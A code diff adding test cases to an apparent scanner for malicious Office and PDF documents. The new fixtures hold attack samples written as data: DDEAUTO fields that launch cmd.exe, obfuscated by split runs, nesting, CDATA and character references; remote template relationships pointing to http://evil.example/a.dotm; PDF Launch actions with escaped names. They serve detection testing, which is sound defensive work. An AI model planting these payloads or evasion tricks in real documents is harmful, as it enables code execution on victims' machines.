@@ -52,6 +52,20 @@ static ks_span text(const char *words) { return ks_str_span(ks_str_of(words)); }
             0, NULL                                                              \
     }
 
+// A document with these words in its part.
+static ks_span document(const char *words)
+{
+    return zip((made_member){ "word/document.xml", text(words), 0, NULL }, (made_member){ 0 });
+}
+
+// One whose settings refer to something outside by these words.
+static ks_span relation(const char *words)
+{
+    return zip(DOCUMENT, (made_member){ "word/_rels/settings.xml.rels", text(words), 0, NULL });
+}
+
+#define XML "<?xml version=\"1.0\"?>"
+
 // A mail with the bytes attached in base64.
 static ks_span mail(const char *name, ks_span bytes)
 {
@@ -237,6 +251,19 @@ static void lying(case_run *r)
           REFERS("settings", "attachedTemplate", "http://evil.example/a.dotm")) },
         { "a field that starts a program", S(FIELD_DDE), "a.docx", .bytes =
           zip((made_member){ "word/document.xml", TEXT("<?xml version=\"1.0\"?><w:instrText>DDEAUTO c:\\\\cmd.exe \"/k\"</w:instrText>"), 0, NULL }, (made_member){ 0 }) },
+        { "a template fetched from elsewhere, in quotes of the other kind", S(TEMPLATE_REMOTE), "a.docx", .bytes = relation(
+          XML "<Relationships><Relationship Id='1' Type = 'http://x/attachedTemplate' Target='http://evil.example/a.dotm' TargetMode='External'/></Relationships>") },
+        { "a template fetched from elsewhere, with a prefix", S(TEMPLATE_REMOTE), "a.docx", .bytes = relation(
+          XML "<p:Relationships><p:Relationship Id=\"a>b\" x:Target=\"a\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></p:Relationships>") },
+        { "a template fetched from elsewhere, in character references", S(TEMPLATE_REMOTE), "a.docx", .bytes = relation(
+          XML "<Relationships><Relationship\nTargetMode=\"&#69;xternal\" Type=\"http://x/attached&#x54;emplate\" Target=\"&#104;ttp://evil.example/?a&amp;b\"/></Relationships>") },
+        { "a field that starts a program, in several runs", S(FIELD_DDE), "a.docx", .bytes = document(
+          XML "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:instrText> DD</w:instrText><w:r/><w:instrText xml:space='preserve'>E<!-- -->AUTO c:\\cmd.exe</w:instrText>"
+          "<w:fldChar w:fldCharType='separate'/><w:t>1</w:t><w:fldChar w:fldCharType=\"end\"/>") },
+        { "a field that starts a program, within another", S(FIELD_DDE), "a.docx", .bytes = document(
+          XML "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>IF </w:instrText><w:fldChar w:fldCharType=\"begin\"/><w:instrText>D<![CDATA[D]]>&#69; cmd</w:instrText>"
+          "<w:fldChar w:fldCharType=\"end\"/><w:instrText>= 1</w:instrText><w:fldChar w:fldCharType=\"end\"/>") },
+        { "a simple field that starts a program", S(FIELD_DDE), "a.docx", .bytes = document(XML "<w:fldSimple w:dirty='true' w:instr='&#68;DE &quot;cmd&quot;'/>") },
         { "an RTF object of the old equation editor", S(OBJECT_EQUATION), "a.doc", .bytes = TEXT("{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b0000004571756174696f6e2e33000000}}}") },
         { "a PDF that starts a program", S(PDF_LAUNCH), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj") },
         { "a PDF that starts a program, by a name with escapes", S(PDF_LAUNCH), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</Type/Action/S/L#61unc#68/F(cmd.exe)>>endobj") },
@@ -283,6 +310,9 @@ static void honest(case_run *r)
           REFERS("document", "hyperlink", "https://partner.example/")) },
         { "a document with the template of its own PC", NOTHING, "a.docx", .bytes = zip(DOCUMENT,
           REFERS("settings", "attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")) },
+        { "a document about fields that start programs", S(IS), "a.docx", .bytes = document(
+          XML "<w:t>type DDEAUTO c:\\cmd.exe or DDE \"x\"</w:t><!-- <w:instrText>DDEAUTO x</w:instrText> --><w:fldChar w:fldCharType=\"begin\"/>"
+          "<w:instrText> REF DDE_LINK1 </w:instrText><w:fldChar w:fldCharType=\"end\"/><w:t>DDEAUTO x</w:t>") },
         { "a PDF with a form's script", S(PDF_SCRIPT), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</S/JavaScript/JS(x)>>endobj") },
         { "a PDF with a form's script, by a name with escapes", S(PDF_SCRIPT), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</S/#4aava#53cript/JS(x)>>endobj") },
         { "a PDF with names that only begin so", S(IS), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</LaunchURL/x/L#6/y/Launc/#/z#") },
